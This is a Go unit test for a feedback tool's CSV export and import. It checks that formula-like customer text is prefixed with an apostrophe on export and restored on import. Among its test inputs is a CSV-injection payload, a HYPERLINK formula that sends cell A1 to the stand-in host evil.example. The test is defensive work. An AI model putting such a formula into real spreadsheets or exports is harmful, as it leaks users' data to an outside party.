package csvio_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"testing"

	"github.com/closeloop/closeloop/internal/csvio"
	"github.com/closeloop/closeloop/internal/feedback"
	"github.com/closeloop/closeloop/internal/store"
	"github.com/closeloop/closeloop/internal/store/storetest"
)

// Customer text that a spreadsheet would run as a formula is exported as text (a
// leading apostrophe) and imported back exactly as it was.
func TestExportDefusesFormulasAndImportRestoresThem(t *testing.T) {
	texts := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"+1 for dark mode",
		"-5% discount please",
		"@here the export is broken",
		"'quoted on purpose",
		"plain text",
	}
	ctx := context.Background()
	src := storetest.Open(t, storetest.Dialects[0])
	for _, tx := range texts {
		if _, _, err := src.Capture(ctx, feedback.Capture{Text: tx, Source: feedback.SourceAPI}); err != nil {
			t.Fatal(err)
		}
	}
	var buf bytes.Buffer
	if _, err := csvio.ExportFeedback(ctx, src, &buf); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := -1
	for i, h := range recs[0] {
		if h == "text" {
			col = i
		}
	}
	want := map[string]string{
		texts[0]: "'" + texts[0], texts[1]: "'" + texts[1], texts[2]: "'" + texts[2], texts[3]: "'" + texts[3],
		texts[4]: texts[4], texts[5]: texts[5],
	}
	got := map[string]bool{}
	for _, r := range recs[1:] {
		got[r[col]] = true
	}
	for orig, cell := range want {
		if !got[cell] {
			t.Errorf("text %q: no exported cell %q in %v", orig, cell, got)
		}
	}
	dst := storetest.Open(t, storetest.Dialects[0])
	if _, _, err := csvio.ImportFeedback(ctx, dst, bytes.NewReader(buf.Bytes())); err != nil {
		t.Fatal(err)
	}
	items, _, err := dst.ListFeedback(ctx, store.FeedbackFilter{Limit: 50})
	if err != nil {
		t.Fatal(err)
	}
	back := map[string]bool{}
	for _, it := range items {
		back[it.Text] = true
	}
	for _, tx := range texts {
		if !back[tx] {
			t.Errorf("text %q did not come back unchanged: %v", tx, back)
		}
	}
}
